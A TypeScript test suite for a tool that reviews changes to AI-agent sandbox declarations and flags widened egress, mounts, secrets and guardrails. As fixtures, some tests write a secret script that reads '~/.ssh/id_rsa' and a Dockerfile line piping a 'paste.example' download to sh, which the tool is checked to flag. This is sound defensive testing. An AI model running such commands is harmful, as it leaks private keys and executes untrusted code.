import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { readDeclarations } from "../../host/declarations.ts";
import { writeDeployed } from "../../plan/deployed.ts";
import { DocumentSchema, type ReviewDocument, reviewJsonSchema } from "../../plan/review/document.ts";
import type { PostureFact } from "../../plan/review/fact.ts";
import { DeclaredProject } from "../../test/declared-project.ts";

// One for all tests: each finds it as it was before the first.
let project: DeclaredProject;
beforeAll(() => {
  project = new DeclaredProject();
  project.commit("new");
});
afterEach(() => project.backTo("new"));
afterAll(() => project.remove());

/** What agentbox prints, and how it ends. */
const review = async (...args: string[]) => {
  const { code, stdout, stderr } = await project.agentbox("review", ...args);
  return { code, lines: stdout.split("\n").slice(0, -1), stderr };
};
const document = async (...args: string[]): Promise<ReviewDocument> => {
  const { stdout, stderr } = await project.agentbox("review", ...args, "--json");
  expect(stderr).toBe("");
  return DocumentSchema.parse(JSON.parse(stdout)) as ReviewDocument;
};

/** A client whose secrets may come from ESC environments, in this order. */
const ofEnvironments = (names: string) =>
  project.write(
    "stacks/Pulumi.acme.yaml",
    `environment: [${names}]\nconfig:\n  agent-sandbox:workspace: /srv/acme\n  agent-sandbox:agents: [shell]\n`,
  );

describe("between two revisions", () => {
  test("each change is told with its class and its line, and what gets wider ends with 1", async () => {
    project.client(
      "acme",
      "agent-sandbox:egress: {allow: [openrouter]}",
      "agent-sandbox:mounts: [{host: /srv/docs, at: /docs}]",
    );
    project.client("globex");
    project.commit("one");
    project.client(
      "acme",
      "agent-sandbox:egress:",
      "  allow:",
      "    - github  # for the pull requests",
      "    - docs.acme.example",
      "agent-sandbox:mounts: [{host: /srv/docs, at: /docs, mode: rw}]",
    );
    project.commit("two");
    expect(await review("one..two")).toEqual({
      code: 1,
      stderr: "",
      lines: [
        "one → two",
        "",
        "acme",
        expect.stringMatching(
          /^ {2}WIDENS {3}egress {8}\+ client: github: api\.github\.com, .* {2}\[stacks\/Pulumi\.acme\.yaml:6, policies\/services\/github\.yaml:\d+\]$/,
        ),
        "  WIDENS   egress        + docs.acme.example 80,443 (client)  [stacks/Pulumi.acme.yaml:7]",
        "  WIDENS   mounts        ~ /docs ro → rw (/srv/docs)  [stacks/Pulumi.acme.yaml:8]",
        expect.stringMatching(/^ {2}WIDENS {3}ssh-hosts {5}\+ github\.com (SHA256:\S{43}(, )?){3}$/),
        "  narrows  egress        - client: openrouter: openrouter.ai  [stacks/Pulumi.acme.yaml:4 before, policies/services/openrouter.yaml:4 before]",
        expect.stringMatching(
          /^ {2}no approval is asked for \(.*: require: none\); one of it would name change [0-9a-f-]{35}$/,
        ),
        "",
        "the same: globex",
        "2 clients: 1 with something wider, for which no approval is asked, 1 the same",
      ],
    });
    expect(await review("two..one", "acme")).toMatchObject({ code: 1 });
    expect((await review("two..one", "globex")).lines.at(-1)).toBe("1 client: 1 the same");
    expect(await review("two..two")).toMatchObject({ code: 0 });
  });

  test.each<[what: string, before: () => void, after: () => void, told: RegExp]>([
    [
      "a script of the project's that a secret is read by",
      () => {
        project.client("acme", "agent-sandbox:secrets: {T: {command: [sh, files/get.sh]}}");
        project.write("files/get.sh", "echo a\n");
      },
      () => project.write("files/get.sh", "cat ~/.ssh/id_rsa\n"),
      /^ {2}WIDENS\? {2}secrets {7}~ T \(command sh files\/get\.sh\): its files in the project changed {2}\[/,
    ],
    [
      "a dotfile of the project's",
      () => {
        project.client("acme", "agent-sandbox:dotfiles: {.bashrc: files/bashrc}");
        project.write("files/bashrc", "alias ll='ls -l'\n");
      },
      () => project.write("files/bashrc", "export PATH=/workspace/bin:$PATH\n"),
      /^ {2}WIDENS\? {2}dotfiles {6}~ ~\/\.bashrc \(file files\/bashrc\): its files in the project changed {2}\[/,
    ],
    [
      "another file behind a name of the home directory",
      () => project.client("acme", "agent-sandbox:dotfiles: {.bashrc: ~/.bashrc}"),
      () => project.client("acme", "agent-sandbox:dotfiles: {.bashrc: ./~/.bashrc}"),
      /^ {2}WIDENS\? {2}dotfiles {6}~ ~\/\.bashrc \(file ~\/\.bashrc\) → \(file \.\/~\/\.bashrc\)/,
    ],
    [
      "another order of ESC environments",
      () => ofEnvironments("acme/a, acme/b"),
      () => ofEnvironments("acme/b, acme/a"),
      /^ {2}WIDENS {3}esc {11}~ acme\/a its variables and secrets are in each up, unless from acme\/b → its variables/,
    ],
  ])("%s asks for an approval", async (_what, before, after, told) => {
    project.rule("approvals", "require: widening");
    before();
    project.commit("one");
    after();
    project.commit("two");
    const { code, lines } = await review("one..two");
    expect([code, lines]).toEqual([1, expect.arrayContaining([expect.stringMatching(told)])]);
    expect((await review("two..two")).code).toBe(0);
  });

  test("an approval of what a script of the project's says is none of what it says besides", async () => {
    project.client("acme", "agent-sandbox:secrets: {T: {command: [sh, files/get.sh]}}");
    const ids: string[] = [];
    for (const text of ["echo a", "echo b", "echo b; id"]) {
      project.write("files/get.sh", `${text}\n`);
      project.commit(`says-${ids.length}`);
      ids.push((await document(`says-0..says-${ids.length}`)).clients[0]?.approval?.change ?? "");
    }
    expect(new Set(ids).size).toBe(3);
  });

  test("what somebody has approved, and nothing more, ends with 0: the approval is a line of the stack file", async () => {
    const allow = (...names: string[]) => `agent-sandbox:egress: {allow: [${names.join(", ")}]}`;
    const approval = (change: string, until = "2999-01-01") =>
      `agent-sandbox:approvals: [{change: ${change}, by: ann, why: The tests need it., until: "${until}"}]`;
    project.rule("approvals", "require: widening");
    project.client("acme", allow("npm"));
    project.commit("one");
    project.client("acme", allow("npm", "docs.acme.example"));
    project.commit("two");
    const wide = await review("one..two");
    expect(wide.lines.join("\n")).toMatch(
      /^ {2}not approved, for there is no approval of it: an approval of it names change .*\n\n1 client: 1 with something wider that nobody has approved$/m,
    );
    const [asked] = (await document("one..two")).clients;
    expect(asked?.unapproved).toBe(1);
    const { change } = asked!.approval!;
    project.client("acme", allow("npm", "docs.acme.example"), approval(change));
    project.commit("three");
    expect(await review("one..three")).toMatchObject({
      code: 0,
      lines: expect.arrayContaining([
        "  approved by ann until 2999-01-01: The tests need it.",
        "1 client: 1 with something wider that is approved",
      ]),
    });
    // An approval is of what somebody could read.
    const encrypted = "agent-sandbox:secrets: {NPM: {env: {secure: v1:one}}}";
    project.client("acme", allow("npm"), encrypted);
    project.commit("encrypted");
    project.client("acme", allow("npm", "docs.acme.example"), encrypted.replace("one", "two"), approval(change));
    expect(await review("encrypted")).toMatchObject({
      code: 1,
      lines: expect.arrayContaining([
        "  not approved: secrets.NPM.env, which is encrypted, so nobody can tell what it is",
        "  approved by ann until 2999-01-01: The tests need it.",
      ]),
    });
    project.client("acme", allow("npm", "docs.acme.example", "more.acme.example"), approval(change));
    project.commit("more");
    expect((await review("one..more")).code).toBe(1);
    project.client("acme", allow("npm", "docs.acme.example"), approval(change, "2026-01-01"));
    project.commit("late");
    expect(await review("one..late")).toMatchObject({
      code: 1,
      lines: expect.arrayContaining([
        expect.stringMatching(/^ {2}not approved, for the approval of ann for it ended on 2026-01-01: an approval/),
      ]),
    });
  });

  const NO_WEB = ["name: no-web", "why: It sends what it reads.", "rule: {profiles: [standard]}"];
  const CEILING = ["egress: {allow: [npm, docs.acme.example]}", 'mounts: [{host: "/srv/{client}/docs", at: /docs}]'];
  test.each<[what: string, change: () => void, says: RegExp]>([
    [
      "a guardrail that refuses no more",
      () => project.rule("no-web", ...NO_WEB, "level: advisory"),
      /WIDENS {3}guardrails {4}~ no-web mandatory .* → advisory \{"profiles":\["standard"\]\} {2}\[policies\/guardrails\/no-web\.yaml:4\]/,
    ],
    [
      "a ceiling with one more name",
      () => project.rule("ceiling", CEILING[0]!.replace("npm", "npm, paste.example"), CEILING[1]!),
      /WIDENS {3}ceiling egress \+ paste\.example 80,443 \(client\) {2}\[policies\/guardrails\/ceiling\.yaml:1\]/,
    ],
    [
      "a ceiling that has one place for all",
      () => project.rule("ceiling", CEILING[0]!, 'mounts: [{host: "/srv/any-client/docs", at: /docs}]'),
      /WIDENS\? {2}ceiling mounts ~ \/docs ro \(\/srv\/\{client\}\/docs\) → ro \(\/srv\/any-client\/docs\)|ceiling mounts .*any-client/,
    ],
    ["a ceiling that cannot be read", () => project.rule("ceiling", "egres: {}"), /egres is not a key/],
  ])("what the organisation lets all clients be is told, and not as the same: %s", async (_what, change, says) => {
    project.client("acme", "agent-sandbox:egress: {allow: [npm]}");
    project.rule("no-web", ...NO_WEB, "level: mandatory");
    project.rule("approvals", "require: widening");
    project.rule("ceiling", ...CEILING);
    project.commit("one");
    change();
    project.commit("two");
    const { code, lines } = await review("one..two");
    expect(lines.join("\n")).toMatch(says);
    expect({ code, end: lines.at(-1) }).toEqual({
      code: 1,
      end: expect.stringMatching(
        /^what the organisation lets clients be (gets wider, and nobody has approved it|cannot be compared); 1 client: 1 the same$/,
      ),
    });
  });

  test("a guardrail that somebody has approved to go is approved, in the file that says who asks", async () => {
    project.client("acme");
    project.rule("no-web", ...NO_WEB, "level: mandatory");
    project.rule("approvals", "require: widening");
    project.commit("one");
    project.rule("no-web");
    project.commit("two");
    const { change } = (await document("one..two")).organisation!.approval!;
    const approval = `approvals: [{change: ${change}, by: ann, why: It has another wall now., until: "2999-01-01"}]`;
    project.rule("approvals", "require: widening", approval);
    project.commit("three");
    expect(await review("one..three")).toMatchObject({
      code: 0,
      lines: expect.arrayContaining(["  approved by ann until 2999-01-01: It has another wall now."]),
    });
    project.rule("approvals", "require: none", approval);
    project.commit("four");
    expect((await review("one..four")).code).toBe(1);
  });

  test.each([
    [
      "a component",
      { "components/agent.ts": "export const masks = [];\n" },
      /^what makes the sandboxes changes too, .*: read components\/agent\.ts$/m,
    ],
    [
      "a text that is baked in",
      { "images/runtime/etc/agent-sandbox/ABOUT.md": "Do.\n" },
      /^what images are made of changes, .*ABOUT\.md$/m,
    ],
    [
      "the pack",
      { "policies/guardrails/PulumiPolicy.yaml": "runtime: nodejs\nmain: x.js\n" },
      /: read policies\/guardrails\/PulumiPolicy\.yaml$/m,
    ],
    [
      "a lock, behind many others",
      {
        ...Object.fromEntries(["a", "b", "c", "d", "e", "f"].map((name) => [`.github/${name}.yml`, "x"])),
        "images/lock.json": "{}",
      },
      /^what images are made of changes, .*: read images\/lock\.json$/m,
    ],
  ])("what makes the sandboxes is no declaration, and is named where it changes: %s", async (_what, files, says) => {
    project.client("acme");
    project.commit("one");
    for (const [file, text] of Object.entries(files)) project.write(file, text);
    project.commit("two");
    expect((await review("one..two")).lines.join("\n")).toMatch(says);
    expect((await review("two..two")).lines.join()).not.toContain("changes");
  });

  test("what a link among the images leads to is of the images, wherever it lies", async () => {
    project.client("acme");
    project.write("docs/psql.yaml", readFileSync(join(project.folder, "images/tools/psql.yaml"), "utf8"));
    rmSync(join(project.folder, "images/tools/psql.yaml"));
    symlinkSync("../../docs/psql.yaml", join(project.folder, "images/tools/psql.yaml"));
    project.commit("one");
    project.write("docs/psql.yaml", "name: psql\n");
    project.commit("two");
    expect((await review("one..two")).lines.join("\n")).toMatch(/read docs\/psql\.yaml$/m);
  });

  test("files that git would change as it checks them out are no files that a review has read", async () => {
    project.client("acme");
    project.write("stacks/.gitattributes", "Pulumi.*.yaml filter=no-salt\n*.bin filter=lfs\n");
    project.commit("one");
    expect((await review("one..one")).code).toBe(0);
    for (const [index, line] of ["working-tree-encoding=ASCII//TRANSLIT", "ident", "filter=x"].entries()) {
      project.write("stacks/.gitattributes", `Pulumi.acme.yaml ${line}\n`);
      project.commit(`changed-${index}`);
      const { code, stderr } = await review(`one..changed-${index}`);
      expect({ code, stderr }).toEqual({
        code: 2,
        stderr: expect.stringContaining("has git change files as it checks them out"),
      });
    }
  });

  test("an approval is for the content of files, too, and one that is put in beforehand is told", async () => {
    const change = async () => (await document("one..HEAD")).clients[0]!.approval!.change;
    project.client("acme");
    project.commit("one");
    project.client("acme", "agent-sandbox:ca: [docs/corp.pem]", "agent-sandbox:image: {extend: docs/Dockerfile}");
    const ids = new Set<string>();
    for (const [index, [pem, says]] of [
      ["a", "RUN true"],
      ["b", "RUN true"],
      ["a", "RUN false"],
    ].entries()) {
      project.write("docs/corp.pem", `${pem}\n`);
      project.write("docs/Dockerfile", `${says}\n`);
      project.commit(`content-${index}`);
      ids.add(await change());
    }
    expect(ids.size).toBe(3);
    const [first = ""] = ids;
    project.client("acme", `agent-sandbox:approvals: [{change: ${first}, by: ann, why: later, until: "2999-01-01"}]`);
    project.commit("beforehand");
    expect((await review("one..beforehand")).lines).toContain(
      `  a new approval: change ${first} is approved by ann until 2999-01-01: later`,
    );
  });

  test.each([
    ["a secret", "agent-sandbox:secrets: {TOKEN: {file: docs/link}}", "secrets.TOKEN"],
    ["a dotfile", "agent-sandbox:dotfiles: {.vimrc: docs/link}", "dotfiles"],
    ["a certificate", "agent-sandbox:ca: [docs/link]", "ca"],
    ["a mount", "agent-sandbox:mounts: [{host: docs/link/below, at: /docs}]", "mounts[0].host"],
  ])("%s by way of a link in the project is refused: where it leads is in no line", async (_what, line, key) => {
    for (const [index, to] of ["/etc", "../stacks"].entries()) {
      rmSync(join(project.folder, "docs/link"), { force: true });
      mkdirSync(join(project.folder, "docs"), { recursive: true });
      symlinkSync(to, join(project.folder, "docs/link"));
      project.client("acme", line);
      project.commit(`link-${index}`);
      const { code, lines } = await review(`link-${index}..link-${index}`);
      expect(code).toBe(1);
      expect(lines.join("\n")).toMatch(
        /"docs\/link.*" goes through a link, docs\/link, and where that leads is in no review/,
      );
      expect(lines.join("\n")).toContain(key);
    }
  });

  test("a service that opens more is a change of every client that has it, on the service's line", async () => {
    project.client("acme", "agent-sandbox:egress: {allow: [npm]}");
    project.commit("one");
    const file = join(project.folder, "policies/services/npm.yaml");
    writeFileSync(
      file,
      `${readFileSync(file, "utf8")}  - {host: more.npmjs.org, why: More., source: https://npmjs.com, seen: 2026-11-21}\n`,
    );
    project.commit("two");
    const [acme] = (await document("one..two")).clients;
    expect(acme?.changes).toEqual([
      expect.objectContaining({
        ...{ class: "widens", about: "more.npmjs.org", to: "443 (client: npm)" },
        origin: [
          { file: "stacks/Pulumi.acme.yaml", line: 4 },
          { file: "policies/services/npm.yaml", line: 8 },
        ],
      }),
    ]);
  });

  test("a grant is told on its own line, and that it is over", async () => {
    project.client("acme", "agent-sandbox:egress: {allow: [npm]}");
    project.commit("one");
    project.client(
      "acme",
      "agent-sandbox:egress: {allow: [npm]}",
      "agent-sandbox:grants:",
      "  - {allow: docs.acme.example, until: 2026-11-01T10:00Z, why: reads it}",
      "  - {allow: {host: git.acme.example, ports: [22]}, until: 2999-11-01T10:00Z, why: reads it}",
    );
    project.commit("two");
    const { lines } = await review("one..two");
    expect(lines).toEqual(
      expect.arrayContaining([
        "  WIDENS   egress        + docs.acme.example 80,443 until 2026-11-01 10:00 UTC (grant)  [stacks/Pulumi.acme.yaml:6]",
        "  WIDENS   egress        + git.acme.example 22 until 2999-11-01 10:00 UTC (grant)  [stacks/Pulumi.acme.yaml:7]",
        expect.stringMatching(/^ {2}grants\[0\]\.until: 2026-11-01 10:00 UTC is over, by this machine's clock/),
        expect.stringMatching(/^ {2}grants\[1\]\.until: 2999-11-01 10:00 UTC is more than 30 days ahead/),
      ]),
    );
    // What is said of a client whose review is the same is said, too.
    expect((await review("two..two")).lines.join("\n")).toMatch(
      /grants\[0\]: docs\.acme\.example: ended 2026-11-01 10:00 UTC, and stays shut/,
    );
  });

  test("a client that is new, gone, or has another name, is told as what it is", async () => {
    project.client("acme", "agent-sandbox:ports: [8080]", "agent-sandbox:egress: {allow: [npm]}");
    project.client("old");
    project.commit("one");
    project.git("mv", "stacks/Pulumi.acme.yaml", "stacks/Pulumi.initech.yaml");
    project.git("rm", "--quiet", "stacks/Pulumi.old.yaml");
    project.commit("two");
    const { code, lines } = await review("one..two");
    expect(code).toBe(1);
    expect(lines).toEqual(
      expect.arrayContaining([
        "acme: its stack file is gone",
        "  its sandbox, where it was brought up, still runs with all that it had until `pulumi destroy --stack acme`",
        "  its file is stacks/Pulumi.initech.yaml now: that is another client, initech, with a sandbox of its own",
        "  narrows  client        - acme",
        "initech: a new sandbox",
        expect.stringMatching(/^ {2}its file was stacks\/Pulumi\.acme\.yaml: acme is another client/),
        "  new      ports         127.0.0.1:8080 to 8080",
        "old: its stack file is gone",
        "3 clients: 1 with something wider, for which no approval is asked, 2 changed without getting wider",
      ]),
    );
    expect(await review("one..two", "old")).toMatchObject({ code: 0 });
  });

  test("a file that cannot be read on either side is never the same", async () => {
    project.write("stacks/Pulumi.acme.yaml", "config: [\n");
    project.client("globex");
    project.commit("one");
    project.client("acme", "agent-sandbox:ports: [8080]");
    project.client("globex", "agent-sandbox:profil: web");
    project.commit("two");
    const { code, lines } = await review("one..two");
    expect(code).toBe(1);
    expect(lines).toEqual(
      expect.arrayContaining([
        "acme: what changes cannot be said",
        expect.stringMatching(/^ {2}stacks\/Pulumi\.acme\.yaml: is not YAML: /),
        "  new      ports         127.0.0.1:8080 to 8080",
        "globex: what changes cannot be said",
        expect.stringMatching(/^ {2}stacks\/Pulumi\.globex\.yaml: profil is not a key\. Did you mean "profile"/),
        "2 clients: 2 of which it cannot be said",
      ]),
    );
  });

  test("what is encrypted is another change each time: nobody can tell what it says", async () => {
    project.client("acme", "agent-sandbox:secrets: {NPM: {env: {secure: v1:abc}}}");
    project.commit("one");
    project.client("acme", "agent-sandbox:secrets: {NPM: {env: {secure: v1:def}}}");
    const { code, lines } = await review("one");
    expect(code).toBe(1);
    expect(lines).toEqual(
      expect.arrayContaining([
        "  WIDENS?  encrypted     ~ secrets.NPM.env: another text, and without the stack's key nobody can tell what it says  [stacks/Pulumi.acme.yaml:4]",
        "  secrets.NPM.env, which is encrypted (secure:)",
      ]),
    );
  });

  test.each([
    ["command: [sh, ENCRYPTED]", "command: [sh, {secure: v1:two}]", "secrets.NPM.command[1]"],
    ["file: ENCRYPTED", "file: {secure: v1:two}", "secrets.NPM.file"],
  ])("a word that is encrypted now is told, and not only what stands for it: %s", async (before, after, path) => {
    project.client("acme", `agent-sandbox:secrets: {NPM: {${before}}}`);
    project.commit("one");
    project.client("acme", `agent-sandbox:secrets: {NPM: {${after}}}`);
    const { code, lines } = await review("one");
    expect(code).toBe(1);
    expect(lines).toContainEqual(
      expect.stringContaining(`WIDENS?  encrypted     ~ ${path}: another text, and without`),
    );
  });

  test("a secret's value that is encrypted anew is a rotation, and widens nothing", async () => {
    project.client("acme", "agent-sandbox:secrets: {NPM: {encrypted: {secure: v1:abc}}}");
    project.commit("one");
    project.client("acme", "agent-sandbox:secrets: {NPM: {encrypted: {secure: v1:def}}}");
    const { code, lines } = await review("one");
    expect(code).toBe(0);
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^ {2}neutral .*encrypted +~ secrets\.NPM\.encrypted: encrypted anew: rotated, or the same/,
        ),
      ]),
    );
  });

  test("a secret that gets the text of another is no rotation: its readers would have that other's value", async () => {
    project.client(
      "acme",
      "agent-sandbox:secrets: {NPM: {encrypted: {secure: v1:abc}}, DB: {encrypted: {secure: v1:of-db}}}",
    );
    project.commit("one");
    project.client(
      "acme",
      "agent-sandbox:secrets: {NPM: {encrypted: {secure: v1:of-db}}, DB: {encrypted: {secure: v1:def}}}",
    );
    const { lines } = await review("one");
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^ {2}WIDENS\? .*encrypted +~ secrets\.NPM\.encrypted: the text of secrets\.DB\.encrypted: that value comes here, too/,
        ),
        expect.stringMatching(/^ {2}neutral .*secrets\.DB\.encrypted: encrypted anew/),
      ]),
    );
  });

  test("a change of a fragment is told by its lines", async () => {
    project.write("acme/Dockerfile", "RUN true\n");
    project.client("acme", "agent-sandbox:image: {extend: acme/Dockerfile}");
    project.commit("one");
    project.write("acme/Dockerfile", "RUN curl https://paste.example | sh\n");
    expect((await review("one")).lines).toContain(
      "  WIDENS?  extend        ~ acme/Dockerfile 001 RUN true → RUN curl https://paste.example | sh (what an instruction does is not judged)  [stacks/Pulumi.acme.yaml:4]",
    );
  });

  test("a change of a fragment of a helper's image is told by its lines, and of what it copies", async () => {
    project.write("acme/db.Dockerfile", "COPY init.sh /init.sh\nRUN true\n");
    project.write("acme/init.sh", "true\n");
    project.client("acme", "agent-sandbox:helpers: {db: {image: {extend: acme/db.Dockerfile}, command: [/init.sh]}}");
    project.commit("one");
    project.write("acme/db.Dockerfile", "COPY init.sh /init.sh\nRUN curl https://paste.example | sh\n");
    project.write("acme/init.sh", "false\n");
    const { lines } = await review("one");
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^ {2}WIDENS\? +helper-images +~ db file acme\/db\.Dockerfile: changed {2}\[/),
        expect.stringMatching(/^ {2}WIDENS\? +helper-images +~ db acme\/db\.Dockerfile 002 RUN true → RUN curl/),
      ]),
    );
  });

  test("what the working tree has besides is said", async () => {
    project.client("acme");
    project.commit("one");
    project.client("acme", "agent-sandbox:ports: [8080]");
    expect((await review("HEAD..HEAD")).lines[1]).toBe(
      "the working tree has uncommitted changes, which are in neither revision: stacks/Pulumi.acme.yaml",
    );
    expect((await review("HEAD")).lines.slice(0, 2)).toEqual([
      "HEAD → the working tree",
      "the working tree has uncommitted changes, which are in this review: stacks/Pulumi.acme.yaml",
    ]);
  });
});

test.each([
  [
    ["no-such"],
    /^agentbox: there is no revision "no-such" in this repository, and no stacks\/Pulumi\.no-such\.yaml\. Clients: acme\. Branches/,
  ],
  [["acm"], /Did you mean "acme"\?/],
  [["one..no-such"], /^agentbox: there is no revision "no-such" in this repository\. Branches/],
  [["one..one", "globex"], /^agentbox: there is no stacks\/Pulumi\.globex\.yaml on either side\./],
  [["one..one", "HEAD..one"], /cannot be compared at once/],
  [["one..one", "--json", "--markdown"], /write one of them/],
  [["one", "--traffic", "soon"], /^agentbox: --traffic "soon" is no time/],
])("agentbox review %j is refused in one sentence", async (args, message) => {
  project.client("acme");
  project.commit("one");
  const { code, stderr } = await review(...(args as string[]));
  expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringMatching(message as RegExp) });
});

test.each([
  ["with what changes", ["one", "--json"]],
  ["with a refusal", ["none"]],
])("a program of its own says what one says that has run before, and ends as it does: %s", async (_what, args) => {
  project.client("acme");
  project.commit("one");
  project.client("acme", "agent-sandbox:ports: [8080]");
  await project.agentbox("review", "none", "--json");
  expect(await project.agentbox("review", ...args)).toEqual(await project.run(["review", ...args]));
});

test("outside of a git repository there are no revisions", async () => {
  const alone = new DeclaredProject();
  alone.client("acme");
  expect(await alone.run(["review", "HEAD"])).toMatchObject({
    code: 2,
    stderr: expect.stringMatching(/is in no git repository that can be read/),
  });
  alone.remove();
});

test("a comment for a pull request has no markup that somebody else wrote", async () => {
  project.client("acme");
  project.commit("one");
  project.client("acme", 'agent-sandbox:environment: {NOTE: "`</td>|<img src=x> @team [a](b) # x"}');
  const { lines } = await review("one", "--markdown");
  expect(lines[0]).toBe("<!-- agentbox review -->");
  const row = lines.find((line) => line.startsWith("| **WIDENS?**"));
  expect(row).toBe(
    '| **WIDENS?** | `environment` | `+ NOTE "\\u{60}</td>\\u{7c}<img src=x> @team [a](b) # x" (it may steer programs)` | `stacks/Pulumi.acme.yaml:4` |',
  );
});

test("a comment is never longer than one may be, and says which clients it leaves out", async () => {
  for (let index = 0; index < 12; index++) project.client(`c${index}`);
  project.commit("one");
  for (let index = 0; index < 12; index++)
    project.client(
      `c${index}`,
      `agent-sandbox:egress: {allow: [${Array.from({ length: 80 }, (_, name) => `n${name}.c${index}.example`).join(", ")}]}`,
    );
  const { lines } = await review("one", "--markdown");
  const text = lines.join("\n");
  expect(text.length).toBeLessThan(65_536);
  expect(text).toMatch(/\*\*Not shown, for a comment has no room: \d clients\*\*/);
  expect(text).toContain("12 clients: 12 with something wider, for which no approval is asked");
});

describe("against what the last up left", () => {
  /** A pulumi that knows these stacks, by what their last `up` left. */
  function pulumi(stacks: Record<string, string>): void {
    const out = join(project.folder, "out");
    mkdirSync(out, { recursive: true });
    for (const [name, text] of Object.entries(stacks)) writeFileSync(join(out, name), text);
    const list = Object.keys(stacks).map((name) => ({ name, resourceCount: 20 }));
    writeFileSync(join(out, "list.json"), JSON.stringify(list));
    project.write(
      "bin/pulumi",
      `#!/bin/bash\ncase "$1 $2" in\n"stack ls") cat ${out}/list.json ;;\n"stack output") cat "${out}/$4" 2>/dev/null || { echo "error: no stack named '$4' found" >&2; exit 6; } ;;\nesac\n`,
    );
    chmodSync(join(project.folder, "bin/pulumi"), 0o755);
  }
  const container = {
    ...{ image: "i", user: "1000:1000", capabilities: [], mounts: {}, networks: [], published: [], gpu: "none" },
    ...{ seccomp: "s", limits: {} },
  };
  const proof = { probes: [], datagrams: [], mounts: [], scratch: [], user: "", networks: 1, gpu: false };
  /** What an `up` of the client's file leaves, with what else an engine makes of it. */
  async function up(client: string, change = (facts: Fact[]) => facts): Promise<string> {
    const [one] = await readDeclarations(project.folder, { clients: [client], here: false });
    const declared = change([...one!.facts!]);
    const placed = [...declared, { topic: "users", about: "agent", says: "1000:1000" }];
    const containers = { agent: container, gateway: container };
    return JSON.stringify({
      deployed: writeDeployed({ facts: placed, declared, policyHash: "h", containers, proof } as never),
    });
  }
  type Fact = PostureFact;

  test("what is written and what runs are compared in the same terms, and the rest is named", async () => {
    mkdirSync(join(project.folder, "work/docs"), { recursive: true });
    const workspace = "agent-sandbox:workspace: work";
    const keys = [
      ...["agent-sandbox:egress: {allow: [npm], host: [5432]}", "agent-sandbox:secrets: {DB: {env: DB}}"],
      "agent-sandbox:mounts: [{host: work/docs, at: /docs}]",
    ];
    const write = (...more: string[]) => {
      project.client("acme", ...keys, ...more);
      const file = join(project.folder, "stacks/Pulumi.acme.yaml");
      writeFileSync(file, readFileSync(file, "utf8").replace(/agent-sandbox:workspace.*/, workspace));
    };
    write();
    const left = await up("acme");
    pulumi({ acme: left });
    expect(await review()).toEqual({
      code: 0,
      stderr: "",
      lines: [
        "what the last up left → the working tree",
        "",
        "the same: acme",
        "1 client: 1 the same",
        "not compared; a preview looks at it where it runs:",
        "  what only an engine makes of it: users",
        "  where paths lead on this machine, and whether secrets, logins and files outside of the project were replaced",
      ],
    });
    write("agent-sandbox:ports: [8080]");
    expect(await review("acme")).toMatchObject({
      code: 1,
      lines: expect.arrayContaining(["  WIDENS   ports         + 127.0.0.1:8080 to 8080  [stacks/Pulumi.acme.yaml:7]"]),
    });
  });

  test("a mask that goes is told, also where nobody looks through the workspace", async () => {
    project.client("acme", 'agent-sandbox:masks: [{path: ".env*", as: empty}]');
    pulumi({ acme: await up("acme") });
    expect((await review()).code).toBe(0);
    project.client("acme");
    expect(await review()).toMatchObject({
      code: 1,
      lines: expect.arrayContaining([expect.stringMatching(/WIDENS {3}masks {9}- /)]),
    });
  });

  test("a source that is encrypted is not compared with what was deployed of it", async () => {
    project.client("acme", "agent-sandbox:secrets: {NPM: {env: {secure: v1:abc}}}");
    pulumi({
      acme: await up("acme", (facts) =>
        facts.map((fact) => (fact.topic === "secrets" ? { ...fact, says: "(env TOKEN)" } : fact)),
      ),
    });
    const [acme] = (await document()).clients;
    expect(acme).toMatchObject({ state: "same", changes: [] });
    expect(acme?.notCompared).toContain("secrets.NPM.env, which is encrypted (secure:)");
  });

  test("a stack without a file still runs, one of another version cannot be compared, one that is not there is new", async () => {
    project.client("acme");
    project.client("globex");
    project.client("initech");
    pulumi({ acme: JSON.stringify({ posture: { client: "acme" } }), globex: "{}", gone: "{}" });
    const { code, lines } = await review();
    expect(code).toBe(1);
    expect(lines).toEqual(
      expect.arrayContaining([
        "acme: what changes cannot be said",
        "  what the last up left cannot be read: another version of this program placed it",
        "  new      agents        shell",
        "globex: a new sandbox",
        "gone: its stack file is gone",
        "initech: a new sandbox",
      ]),
    );
  });

  test("a pulumi that gives no answer is told, and is not taken for no change", async () => {
    project.client("acme");
    project.write("bin/pulumi", "#!/bin/bash\necho 'error: passphrase must be set' >&2; exit 1\n");
    chmodSync(join(project.folder, "bin/pulumi"), 0o755);
    const { code, lines } = await review();
    expect(code).toBe(1);
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^whether a stack has no file any more could not be seen: pulumi stack ls: error: passphrase/,
        ),
        "acme: what changes cannot be said",
        expect.stringMatching(/^ {2}what the last up left could not be seen: pulumi stack output: error: passphrase/),
      ]),
    );
  });
});

test("docs/review.schema.json is what the schema says: `bin/agentbox review --schema >docs/review.schema.json`", async () => {
  expect(readFileSync(join(__dirname, "../../docs/review.schema.json"), "utf8")).toBe(reviewJsonSchema());
  expect((await review("--schema")).lines.join("\n")).toBe(reviewJsonSchema().trim());
});

test("all that is printed for programs has the shape of the schema", async () => {
  project.client("acme", "agent-sandbox:egress: {allow: [gihub]}");
  project.client("globex");
  for (const args of [["check"], ["posture", "globex", "--declared"]]) {
    const { stdout } = await project.agentbox(...args, "--json");
    expect(DocumentSchema.safeParse(JSON.parse(stdout))).toMatchObject({ success: true });
  }
  const posture = JSON.parse((await project.agentbox("posture", "globex", "--declared", "--json")).stdout);
  expect(JSON.stringify(posture)).not.toContain("mark");
  expect(posture.facts).toContainEqual({
    topic: "profile",
    about: "",
    says: "standard",
    kind: "gives",
    key: "profile",
  });
});
